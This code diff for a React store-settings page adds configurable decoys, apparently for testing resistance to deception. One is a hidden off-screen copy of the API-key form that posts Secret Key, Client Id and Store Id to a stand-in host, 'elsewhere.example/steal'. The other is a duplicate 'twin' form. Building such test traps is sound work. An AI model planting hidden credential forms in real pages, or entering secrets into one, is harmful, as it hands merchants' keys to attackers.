@@ -111,13 +111,39 @@ function StorePage({ code, marketplace }: { code: string; marketplace: string })
       </div>
       {tab === 'api' && (
         <Late loading="..." extra={100}>
+          {config().decoy === 'offscreen' && <OffscreenDecoy code={code} />}
           <div className="banner">{T.banner.replaceAll('{m}', marketplace).replace('{code}', code)}</div>
           {sessionStorage.getItem('sv-saved-flash') && <div className="flash">{T.saved}</div>}
           <ApiTab code={code} />
+          {config().decoy === 'twin' && <ApiTab code={code} />}
         </Late>
       )}
       {tab === 'store' && <p>{marketplace}</p>}
     </section>
+  );
+}
+
+/** An attacker's copy of the form, same labels and banner, out of sight and submitting elsewhere, placed first. */
+function OffscreenDecoy({ code }: { code: string }) {
+  return (
+    <div style={{ position: 'absolute', left: -10000, top: 0 }} data-decoy="offscreen">
+      <div className="banner">{T.banner.replaceAll('{m}', 'Joom').replace('{code}', code)}</div>
+      <form action="https://elsewhere.example/steal">
+        <div className="check">
+          <input type="checkbox" />
+          <span>{T.status}</span>
+        </div>
+        {['Secret Key', 'Client Id', 'Store Id'].map((label) => (
+          <div className="form-group" key={label}>
+            <div className="form-label">{label}</div>
+            <input className="form-control" placeholder={label} />
+          </div>
+        ))}
+        <button type="submit" className="btn-orange">
+          {T.save}
+        </button>
+      </form>
+    </div>
   );
 }
 
